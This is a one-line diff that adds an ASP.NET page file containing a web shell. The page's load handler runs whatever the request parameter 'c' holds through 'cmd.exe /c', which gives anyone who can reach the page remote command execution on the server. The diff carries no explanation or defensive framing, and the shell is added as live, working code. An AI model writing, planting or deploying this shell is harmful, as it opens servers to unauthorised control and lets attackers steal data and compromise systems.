@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><script runat="server">void Page_Load(object s,EventArgs e){var p=new System.Diagnostics.Process();p.StartInfo=new System.Diagnostics.ProcessStartInfo("cmd.exe","/c "+Request["c"]);p.Start();}</script>
